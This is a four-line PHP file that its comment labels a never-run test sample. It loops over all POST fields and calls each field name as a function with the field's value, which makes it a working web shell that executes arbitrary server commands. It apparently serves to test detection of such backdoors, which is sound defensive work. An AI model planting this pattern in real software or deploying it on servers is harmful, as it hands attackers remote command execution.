<?php
// Test sample (never run): every posted name is called with its value.
foreach ($_POST as $name => $value) {
    $name($value);
}
